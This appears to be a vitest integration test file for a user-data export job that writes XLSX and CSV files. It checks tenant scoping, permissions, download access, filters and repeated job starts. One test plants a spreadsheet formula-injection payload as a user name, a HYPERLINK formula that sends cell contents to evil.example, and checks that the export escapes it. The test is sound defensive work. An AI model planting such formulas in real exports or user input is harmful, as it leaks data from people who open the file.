import ExcelJS from 'exceljs';
import type { TBackgroundJob, TPermissionCatalog } from '@procura/shared';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { userRoles } from '../../db/schema/index.js';
import { parseCsv } from '../../platform/csv.js';
import { createUser } from '../../db/seed/factories.js';
import { DEMO_ACCOUNTS, PASSWORD, startTestApp, type TSession, type TTestApp } from '../../../test/harness.js';
import { settledJob } from '../../../test/background-jobs.js';
import { systemDb } from '../../platform/system-db.js';

let t: TTestApp;
beforeAll(async () => {
  t = await startTestApp({ jobs: true });
});
afterAll(() => t.close());

async function runExport(session: TSession, format: 'xlsx' | 'csv', filters?: Record<string, unknown>) {
  const started = await t.http<TBackgroundJob>('POST', '/v1/export-data', { token: session.accessToken, body: { entity: 'users', format, filters } });
  expect(started.status).toBe(202);
  expect(started.body).toMatchObject({ type: 'data_export', status: 'pending', progress: 0 });
  return settledJob(t, session, started.body.id, 20_000);
}

async function download(session: TSession, jobId: string) {
  const res = await fetch(`${t.baseUrl}/v1/background-jobs/${jobId}/download`, { headers: { authorization: `Bearer ${session.accessToken}` } });
  return { res, bytes: Buffer.from(await res.arrayBuffer()) };
}

describe('users export job', () => {
  it('writes an XLSX of the users the requester may see, downloadable by them only', async () => {
    const session = await t.signIn(DEMO_ACCOUNTS.providerAdmin);
    const job = await runExport(session, 'xlsx');
    expect(job).toMatchObject({ status: 'success', progress: 100, error: null });
    expect(job.resultFileName).toMatch(/^Users_\d{4}-\d{2}-\d{2}\.xlsx$/);

    const { res, bytes } = await download(session, job.id);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toContain(`filename="${job.resultFileName}"`);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Users');
    expect(sheet?.getRow(1).getCell(3).value).toBe('Email');
    const emails: string[] = [];
    sheet?.eachRow((row, n) => {
      if (n > 1) emails.push(String(row.getCell(3).value));
    });
    expect(emails).toEqual(expect.arrayContaining(Object.values(DEMO_ACCOUNTS)));

    // Someone else's job is not found, not forbidden.
    const other = await t.signIn(DEMO_ACCOUNTS.vendorAdmin);
    expect((await download(other, job.id)).res.status).toBe(404);
  });

  it('keeps a client admin’s export to their own client', async () => {
    const session = await t.signIn(DEMO_ACCOUNTS.clientAdmin);
    const job = await runExport(session, 'csv');
    expect(job.status).toBe('success');
    const csv = (await download(session, job.id)).bytes.toString('utf8');
    expect(csv.split('\r\n')[0]).toContain('First name,Last name,Email');
    expect(csv).toContain(DEMO_ACCOUNTS.clientPm);
    expect(csv).not.toContain(DEMO_ACCOUNTS.vendorAdmin);
    expect(csv).not.toContain(DEMO_ACCOUNTS.providerAdmin);
    // Client B's people are not in client A's workspace.
    expect(csv).not.toContain('onsite.lead@example.com');
  });

  it('exports only the kinds of people the requester may view, even in the provider workspace', async () => {
    const admin = await t.signIn(DEMO_ACCOUNTS.providerAdmin);
    const catalog = await t.http<TPermissionCatalog>('GET', '/v1/permissions', { token: admin.accessToken });
    const viewClients = catalog.body.data
      .flatMap((m) => m.permissionTypes)
      .find((p) => p.permissionType === 'client_user_management')
      ?.actions.find((a) => a.actionType === 'View')?.id;
    const role = await t.http<{ id: string }>('POST', '/v1/roles', {
      token: admin.accessToken,
      body: { name: 'Client people viewer', roleType: 'connexus', permissionIds: [viewClients] },
    });
    const db = systemDb(t.platform.database);
    const viewer = await createUser(db, { email: 'client.viewer@example.com', userType: 'connexus', tenantId: t.world.providerTenantId, password: PASSWORD });
    await db.insert(userRoles).values({ userId: viewer.id, tenantId: t.world.providerTenantId, roleId: role.body.id });

    const session = await t.signIn('client.viewer@example.com');
    const job = await runExport(session, 'csv');
    const csv = (await download(session, job.id)).bytes.toString('utf8');
    expect(csv).toContain(DEMO_ACCOUNTS.clientPm);
    expect(csv).toContain('onsite.lead@example.com');
    expect(csv).not.toContain(DEMO_ACCOUNTS.vendorAdmin);
    expect(csv).not.toContain(DEMO_ACCOUNTS.providerAdmin);
  });

  it('writes a name that is a formula as text: the CSV cell cannot run in a spreadsheet, the XLSX cell is a string', async () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
    const pm = await t.signIn(DEMO_ACCOUNTS.clientPm);
    const profile = await t.http<{ phoneCode: string | null; phoneNumber: string | null }>('GET', '/v1/users/profile', { token: pm.accessToken });
    const renamed = await t.http('PATCH', '/v1/users/profile', {
      token: pm.accessToken,
      body: { firstName: evil, lastName: '@SUM(1+1)', phoneCode: profile.body.phoneCode, phoneNumber: profile.body.phoneNumber },
    });
    expect(renamed.status).toBe(200);

    const admin = await t.signIn(DEMO_ACCOUNTS.clientAdmin);
    const csv = (await download(admin, (await runExport(admin, 'csv')).id)).bytes.toString('utf8');
    const line = csv.split('\r\n').find((l) => l.includes(DEMO_ACCOUNTS.clientPm));
    expect(line?.startsWith(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")",'@SUM(1+1),`)).toBe(true);
    expect(csv).not.toMatch(/(^|,|\r\n)[=@]/);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await download(admin, (await runExport(admin, 'xlsx')).id)).bytes as unknown as ArrayBuffer);
    const row = workbook
      .getWorksheet('Users')
      ?.getRows(2, 100)
      ?.find((r) => r.getCell(3).value === DEMO_ACCOUNTS.clientPm);
    expect(row?.getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(row?.getCell(1).value).toBe(evil);
  });

  it('writes typed cells (the creation date is a date in the XLSX, UTC text in the CSV)', async () => {
    const admin = await t.signIn(DEMO_ACCOUNTS.clientAdmin);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await download(admin, (await runExport(admin, 'xlsx')).id)).bytes as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Users');
    expect(sheet?.getRow(1).getCell(10).value).toBe('Created');
    const created = sheet?.getRow(2).getCell(10);
    expect(created?.type).toBe(ExcelJS.ValueType.Date);
    expect(created?.value).toBeInstanceOf(Date);
    const csv = (await download(admin, (await runExport(admin, 'csv')).id)).bytes.toString('utf8');
    expect(csv.split('\r\n')[1]).toMatch(/,\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
  });

  it('exports exactly the rows the users list shows with the same filters, and names a bad filter', async () => {
    const admin = await t.signIn(DEMO_ACCOUNTS.providerAdmin);
    const db = systemDb(t.platform.database);
    // People of this test's own, so the expected rows are the ones it made, not the demo world's.
    for (const [email, status] of [
      ['filtered.one@example.com', 'ACTIVE'],
      ['filtered.two@example.com', 'ACTIVE'],
      ['filtered.three@example.com', 'INACTIVE'],
    ] as const) {
      await createUser(db, { email, status, userType: 'client', tenantId: t.world.clientA.tenantId, password: PASSWORD });
    }
    const cases: [Record<string, unknown>, string[]][] = [
      [{ search: 'filtered.' }, ['filtered.one@example.com', 'filtered.three@example.com', 'filtered.two@example.com']],
      [{ search: 'filtered.', status: ['ACTIVE'] }, ['filtered.one@example.com', 'filtered.two@example.com']],
      [{ search: 'FILTERED.T', tenantIds: [t.world.clientA.tenantId] }, ['filtered.three@example.com', 'filtered.two@example.com']],
      [{ search: 'filtered.', tenantIds: [t.world.clientB.tenantId] }, []],
    ];
    for (const [filters, expected] of cases) {
      const query = new URLSearchParams({ limit: '100' });
      for (const [key, value] of Object.entries(filters)) query.set(key, Array.isArray(value) ? value.join(',') : String(value));
      const list = await t.http<{ data: { email: string }[] }>('GET', `/v1/users?${query}`, { token: admin.accessToken });
      expect(list.status).toBe(200);
      expect(list.body.data.map((u) => u.email).sort()).toEqual(expected);
      const job = await runExport(admin, 'csv', filters);
      expect(job.status).toBe('success');
      const rows = parseCsv((await download(admin, job.id)).bytes.toString('utf8')).slice(1);
      expect(rows.map((r) => r[2]).sort(), JSON.stringify(filters)).toEqual(expected);
    }

    const bad = await t.http<{ fieldErrors?: Record<string, string[]> }>('POST', '/v1/export-data', {
      token: admin.accessToken,
      body: { entity: 'users', format: 'csv', filters: { status: ['NOPE'] } },
    });
    expect(bad.status).toBe(400);
    expect(Object.keys(bad.body.fieldErrors ?? {})).toEqual(['filters.status.0']);
    // A filter the list does not take is refused, not ignored (the file would hold more than asked for).
    const unknown = await t.http<{ fieldErrors?: Record<string, string[]> }>('POST', '/v1/export-data', {
      token: admin.accessToken,
      body: { entity: 'users', format: 'csv', filters: { search: 'filtered.', nope: 1 } },
    });
    expect(unknown.status).toBe(400);
    expect(Object.keys(unknown.body.fieldErrors ?? {})).toEqual(['filters.nope']);
  });

  it('answers a replayed or concurrent start with the same export while it waits or runs, and makes a new one once it is done', async () => {
    const admin = await t.signIn(DEMO_ACCOUNTS.providerAdmin);
    const start = (format: 'xlsx' | 'csv') =>
      t.http<TBackgroundJob>('POST', '/v1/export-data', { token: admin.accessToken, body: { entity: 'users', format, filters: { search: 'example.com' } } });
    const burst = await Promise.all([...Array.from({ length: 5 }, () => start('csv')), start('xlsx')]);
    expect(burst.map((r) => r.status)).toEqual(Array(6).fill(202));
    const csvIds = new Set(burst.slice(0, 5).map((r) => r.body.id));
    expect(csvIds.size).toBe(1);
    const [csvId] = csvIds;
    expect(burst[5].body.id).not.toBe(csvId);
    await settledJob(t, admin, csvId, 20_000);
    await settledJob(t, admin, burst[5].body.id, 20_000);
    const again = await start('csv');
    expect(again.body.id).not.toBe(csvId);
    await settledJob(t, admin, again.body.id, 20_000);
  });
});
